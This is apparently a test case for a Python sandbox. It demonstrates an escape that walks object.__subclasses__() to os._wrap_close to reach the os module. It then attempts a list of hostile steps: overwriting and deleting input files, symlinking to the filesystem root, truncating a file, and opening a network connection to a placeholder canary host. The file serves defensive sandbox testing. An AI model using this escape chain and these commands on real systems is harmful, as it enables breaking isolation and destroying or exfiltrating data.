# attack: object.__subclasses__() walk to os._wrap_close and its globals
# expect: precheck:dunder-attribute
# unguarded: any
def harm(os):
    """What an escape would do: every step must be stopped by a wall below."""
    steps = [
        lambda: os.system("echo pwned >> /input/data.csv; echo pwned > /input/new.txt; "
                          "echo pwned > /tmp/escaped; "
                          "python3 -c \"import socket; socket.create_connection(('CANARY_HOST', CANARY_PORT), 2)\""),
        lambda: os.remove("/input/data.csv"),
        lambda: os.rename("/input/book.xlsx", "/input/moved.xlsx"),
        lambda: os.symlink("/input/data.csv", "/output/link.csv"),
        lambda: os.symlink("/", "/output/root"),
        lambda: os.mkfifo("/output/fifo"),
        lambda: os.open("/input/data.csv", os.O_WRONLY | os.O_TRUNC),
    ]
    for step in steps:
        try:
            step()
        except Exception as exc:
            print("blocked:", repr(exc)[:120])

for cls in ().__class__.__bases__[0].__subclasses__():
    if cls.__name__ == "_wrap_close":
        harm(cls.__init__.__globals__["sys"].modules["os"])
        break
else:
    raise RuntimeError("walk found nothing")
